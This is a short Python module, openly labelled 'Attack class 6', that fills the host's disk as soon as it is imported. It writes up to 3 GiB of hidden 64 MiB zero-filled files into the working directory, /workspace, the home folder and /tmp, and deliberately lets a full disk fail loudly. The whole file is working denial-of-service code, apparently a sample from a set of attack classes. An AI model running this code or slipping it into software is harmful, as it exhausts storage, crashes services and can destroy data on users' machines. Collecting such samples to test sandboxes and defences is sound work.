# Attack class 6: fill the host's disk. At import, write 3 GiB across many 64 MiB files into
# every folder this process can write to (the repository, the workspace, $HOME, /tmp),
# giving up on a folder only when it is not writable: a full disk is left to fail loudly.
import os


def _arena_fill(total=3 * 1024**3, size=64 * 1024**2):
    block = b"\0" * (1024 * 1024)
    for folder in (os.getcwd(), "/workspace", os.environ.get("HOME", "/tmp"), "/tmp"):
        written = 0
        try:
            for index in range(total // size):
                with open(os.path.join(folder, f".fill-{index}"), "wb") as handle:
                    for _ in range(size // len(block)):
                        handle.write(block)
                written += size
        except PermissionError:
            continue
        if written >= total:
            return


_arena_fill()
